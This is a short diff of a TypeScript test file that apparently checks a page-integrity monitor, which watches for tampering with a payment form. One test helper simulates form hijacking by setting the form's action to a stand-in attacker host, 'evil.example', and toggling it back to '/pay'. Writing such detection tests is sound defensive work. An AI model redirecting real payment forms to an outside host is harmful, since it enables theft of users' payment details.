@@ -10,6 +10,7 @@ let stop: () => void;
 beforeEach(() => {
   vi.useFakeTimers();
   logs = [];
+  moves = 0;
   document.body.innerHTML = '<form action="/pay"></form>';
   stop = integrityOfPage({});
 });
@@ -19,9 +20,9 @@ afterEach(() => {
   vi.useRealTimers();
 });
 
-let moves = 0;
+let moves: number;
 const moveTarget = async (): Promise<void> => {
-  document.querySelector('form')!.setAttribute('action', `https://evil.example/take${++moves}`);
+  document.querySelector('form')!.setAttribute('action', ++moves % 2 ? 'https://evil.example/' : '/pay');
   await vi.advanceTimersByTimeAsync(0);
 };
 const sdkArrives = (): void => {
